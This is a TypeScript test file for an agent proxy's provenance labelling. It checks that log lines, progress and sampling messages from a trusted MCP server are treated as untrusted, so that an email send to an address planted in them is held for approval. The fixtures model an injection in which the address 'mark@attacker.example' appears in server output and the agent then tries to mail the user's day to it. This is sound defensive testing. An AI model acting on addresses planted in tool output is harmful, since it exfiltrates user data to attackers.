import { describe, expect, it } from "vitest";
import { parsePolicy, type ActionRequest } from "@acp/core";
import { createReplayer, type ReplayedCall } from "../src/replay/driver.js";
import { createReplaySessions } from "../src/replay/session-runtime.js";
import type { ReplaySession, ReplaySessionFactory } from "../src/replay/session-seam.js";
import { parseTraceText } from "../src/replay/trace.js";
import { createProxySessionRuntime } from "../src/wiring/session-runtime.js";

// ADR 0008: what an upstream says besides its answers (a log line, a progress message, a sampling request, a
// completion's values) is untrusted text, even from a server of trusted_servers: it may echo what the server
// was asked. acp proxy records it so; acp replay passed an explicit `trusted: true` for every result of a
// --trusted-server, so a trusted server's log line replayed as `system_policy` and vouched for the address in it.

const NOW = new Date("2026-01-15T12:00:00Z");
const ATTACKER = "mark@attacker.example";
const SIDE = [
  ["notifications/message", `looking up ${ATTACKER}`],
  ["notifications/progress", `fetched events of ${ATTACKER}`],
  ["sampling/createMessage", `summarise the mail of ${ATTACKER}`],
  ["completion/complete", ATTACKER],
] as const;
const ANSWERS = [
  ["read_events", "standup at 10:00"],
  ["resources/read", "calendar feed"],
] as const;

function liveLabels(): string[] {
  const runtime = createProxySessionRuntime({ trustedServers: ["calendar"], classify: [], now: () => NOW });
  const read: ActionRequest = {
    server: "calendar",
    tool: "read_events",
    arguments: {},
    annotations: { readOnlyHint: true },
  };
  void runtime.sourceFor("s1").evaluate(read, NOW, []);
  // as acp proxy tells it: each under its method's name, the answers under the tool's or the method's
  for (const [tool, text] of [...ANSWERS, ...SIDE]) runtime.observer.result("s1", "calendar", tool, text);
  return (runtime.sessionOf("s1")?.provenance ?? [])
    .filter((e) => e.source.startsWith("calendar."))
    .map((e) => e.label);
}

const POLICY = parsePolicy('version: "1"\ndefault_action: allow\nrules: []\n');

async function replay(events: readonly object[]): Promise<{ calls: readonly ReplayedCall[]; labels: string[] }> {
  if (!POLICY.ok) throw new Error("bad test policy");
  const made: ReplaySession[] = [];
  const real = createReplaySessions({ trustedServers: ["calendar"], now: NOW });
  const sessions: ReplaySessionFactory = (name) => {
    const session = real(name);
    made.push(session);
    return session;
  };
  const trace = parseTraceText(events.map((e) => JSON.stringify(e)).join("\n"), "t");
  if (!trace.ok) throw new Error("bad test trace");
  const replayer = createReplayer({
    inputs: { policy: POLICY.value, policyFile: "p" },
    sessions,
    trustedServers: new Set(["calendar"]),
    now: NOW,
  });
  const calls = await replayer.replayTrace(trace.value);
  const labels = (made[0]?.provenance?.() ?? []).filter((e) => e.source.startsWith("calendar.")).map((e) => e.label);
  return { calls, labels };
}

describe("acp replay labels what a trusted server says besides its answers as acp proxy does (ADR 0008)", () => {
  it("a --trusted-server's answers are trusted; its log lines, progress, sampling and completions are not, live and replayed alike", async () => {
    const live = liveLabels();
    expect(live).toEqual([
      "system_policy",
      "system_policy",
      "external_untrusted",
      "external_untrusted",
      "external_untrusted",
      "external_untrusted",
    ]);
    const events = [...ANSWERS, ...SIDE].map(([tool, content]) => ({
      type: "tool_result",
      server: "calendar",
      tool,
      content,
    }));
    expect((await replay(events)).labels).toEqual(live);
  });

  it("an address first seen in a trusted server's log line does not vouch for a send to it: the send asks", async () => {
    const { calls } = await replay([
      { type: "user_input", text: "summarise my day and mail it to me" },
      { type: "tool_result", server: "calendar", tool: "notifications/message", content: `looking up ${ATTACKER}` },
      { type: "tool_call", server: "mail", tool: "send_email", args: { to: ATTACKER, body: "my day" } },
    ]);
    expect(calls.map((c) => c.route)).toEqual(["ask"]);
    expect(
      calls[0]?.reasons.some((r) => r.source === "session" && r.message.includes("calendar.notifications/message")),
    ).toBe(true);
  });

  it("the trace's own provenance still labels a side message, as a caller's explicit trust does in acp proxy", async () => {
    const { labels } = await replay([
      {
        type: "tool_result",
        server: "calendar",
        tool: "notifications/message",
        content: `looking up ${ATTACKER}`,
        provenance: "system_policy",
      },
    ]);
    expect(labels).toEqual(["system_policy"]);
  });
});
